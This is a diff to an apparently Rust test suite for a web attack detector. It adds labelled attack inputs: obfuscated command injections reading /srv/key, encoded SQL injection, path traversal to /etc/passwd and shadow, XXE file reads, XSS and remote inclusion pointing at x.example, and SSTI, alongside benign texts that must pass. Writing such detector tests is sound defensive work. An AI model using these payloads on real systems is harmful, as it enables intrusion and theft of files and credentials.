@@ -395,6 +395,14 @@ fn attacks() -> Vec<(&'static str, Request)> {
         ),
         ("attack-deserialization", Request::form("/", "data=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA")),
         ("attack-generic", Request::get("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php")),
+        ("attack-rfi", Request::get("/lib/show.php?skin_path=http://x.example/a")),
+        ("attack-ssrf", Request::get("/?unix:/var/run/a.sock|http://10.0.0.7/")),
+        ("attack-xss", Request::header("Cookie", "theme=%3Cdiv%20id%3Dx%3E")),
+        // A body that no parser can read is an attack where one is seen in it.
+        (
+            "attack-xxe",
+            Request::post("/", "text/xml", "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///srv/a\">]><a>&b;</a>"),
+        ),
     ]);
     all
 }
@@ -466,6 +474,33 @@ const VALUES: &[(&str, &str)] = &[
     ("attack-xxe", "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/group\">]>"),
     ("attack-protocol", "en\r\nSet-Cookie: session=1"),
     ("attack-deserialization", "!!python/object/apply:os.getcwd []"),
+    // Quotes, expansions and variables that hide a command's name.
+    ("attack-rce", "x;n'e'tstat -an"),
+    ("attack-rce", "| l\\s -a /srv"),
+    ("attack-rce", "RUN=uptime;$RUN"),
+    ("attack-rce", ";head$IFS/srv/key"),
+    // Layers of encoding.
+    ("attack-sqli", "9%2527%2520or%25201%253D1--%2520"),
+    ("attack-lfi", "..%u2215..%u2215..%u2215etc%u2215passwd"),
+    ("attack-lfi", "..%5%c..%5%cetc%5%cshadow"),
+    ("attack-xss", "\\u003cimg src=q onerror=prompt(4)\\u003e"),
+    ("attack-generic", "MyB1bmlvbiBzZWxlY3QgbG9naW4gZnJvbSBtZW1iZXJz"),
+    ("attack-generic", "PHN2ZyBvbmxvYWQ9cHJvbXB0KDkpPg=="),
+    // Arithmetic keeps its plus signs; words taken apart; comments for blanks.
+    ("attack-sqli", "z' and 2+3=5-- "),
+    ("attack-sqli", "3 un/**/ion sel/**/ect 4,5"),
+    ("attack-sqli", "2e0union select 8"),
+    ("attack-sqli", "iif(77=77,1,1/0)"),
+    ("attack-sqli", "4 having 6=6"),
+    ("attack-sqli", "database_to_xml(true,true,'')"),
+    ("attack-xss", "<iframe src=//x.example>"),
+    ("attack-xss", "<link rel=stylesheet href=//x.example/a.css>"),
+    ("attack-xss", "<math><mi xlink:href=//x.example>a"),
+    ("attack-xss", "<i style='x:\\0065\\0078\\0070\\0072(1)'>"),
+    ("attack-xss", "q;onerror=eval;throw 'x'"),
+    ("attack-ssti", "{{ ''.class.mro }}"),
+    ("attack-injection-php", "s:4:\"name\";s:2:\"ab\";"),
+    ("attack-lfi", "c:\\system volume information\\a.dat"),
 ];
 
 fn ordinary() -> Vec<Request> {
@@ -506,6 +541,10 @@ fn ordinary() -> Vec<Request> {
         Request::header("Authorization", "Bearer eyJhbGciOiJSUzI1NiJ9.eyJpc3MiOiJhIn0.c2ln"),
         Request::header("X-Forwarded-For", "203.0.113.9, 2001:db8::17"),
         Request::header("Range", "bytes=0-1023"),
+        Request::get("/solr/items/select?q=lamp&hl=true&hl.simple.pre=%3Cem%3E&hl.simple.post=%3C/em%3E"),
+        Request::get("/odata/Items?$filter=Name%20eq%20%27O%27%27Neil%27%20and%20Price%20gt%203&$top=5"),
+        Request::header("Cookie", "lb=DU+/Kq7wXz4Yh1sVbN0pLmT2aGfE9cRjUo3WxZ5d; a=b"),
+        Request::form("/posts", "body=%3Cp%3EA%20film%3A%3C%2Fp%3E%3Ciframe%20src%3D%22https%3A%2F%2Fvideo.example%2Fe%2F1%22%3E%3C%2Fiframe%3E"),
     ]);
     all
 }
@@ -556,6 +595,22 @@ const TEXTS: &[&str] = &[
     "sleep 8 hours, cat nap 20 minutes",
     "{{ user.name }} will be replaced by the name",
     "R&D: 10 * 2 = 20; 7-2=5",
+    "He wrote \"yes or no\" and 2 = 2 was all he meant",
+    "A union select committee from the north met on Tuesday",
+    "60% wool and 40% silk.",
+    "(0316) 22/41-17",
+    "src/*",
+    "12 -- the number of apostles, and of months in a year",
+    "{\"where\":{\"and\":[{\"name\":{\"like\":\"drop it%\"}}]}}",
+    "Install it:\n\ncurl -L https://example.org/a.tgz\ntar xf a.tgz\n\nThen edit /etc/nginx/nginx.conf",
+    "Both `setTimeout` and `setInterval()` take a function; `uname`, `id` and `hostname` print a line.",
+    "TypeError: cannot read 'document.cookie.split' of undefined",
+    "Run `make`; if it fails, ask Ann",
+    "const View = () => <Page onBack={back} title=\"x\" />",
+    "for (;;) { if (a || k === n) break }",
+    "VOIL\u{c0}, \u{e0} la carte; \u{c1}rbol",
+    "DU+/Kq7wXz4Yh1sVbN0pLmT2aGfE9cRj",
+    "/search?q=\"red shoes\"&page=2",
     "java.lang is a package; php is a language; bash is a shell",
 ];
 
